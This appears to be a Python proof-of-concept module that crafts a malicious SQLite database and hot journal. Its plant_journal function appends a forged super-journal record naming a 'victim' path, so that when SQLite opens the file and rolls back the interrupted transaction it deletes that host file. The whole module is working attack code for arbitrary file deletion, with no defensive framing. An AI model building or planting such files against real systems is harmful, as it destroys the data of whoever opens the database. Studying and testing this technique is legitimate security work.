"""A SQLite file that somebody plants, with a journal that has SQLite delete a file of the host."""

from __future__ import annotations

import shutil
import sqlite3
import struct
from pathlib import Path

MAGIC = bytes.fromhex("d9d505f920a163d7")
_LOCK_PAGE = 0x40000000 // 4096 + 1


def plant_journal(path: Path, victim: Path) -> None:
    """Put a database at `path` whose hot journal names `victim` as the journal of several.

    SQLite rolls back what was cut off, and then deletes the file that is named so.
    """
    draft = path.with_name("draft.sqlite")
    db = sqlite3.connect(draft, isolation_level=None)
    db.executescript("CREATE TABLE kept (x); PRAGMA cache_size = 1; BEGIN; CREATE TABLE cut (x)")
    db.executemany("INSERT INTO cut VALUES (?)", [("x" * 1000,) for _ in range(3000)])
    journal = path.with_name(f"{path.name}-journal")
    shutil.copy(draft, path)
    shutil.copy(f"{draft}-journal", journal)
    db.close()
    draft.unlink()
    name = str(victim).encode()
    with journal.open("ab") as file:
        file.write(struct.pack(">I", _LOCK_PAGE) + name)
        file.write(struct.pack(">II", len(name), sum(name)) + MAGIC)
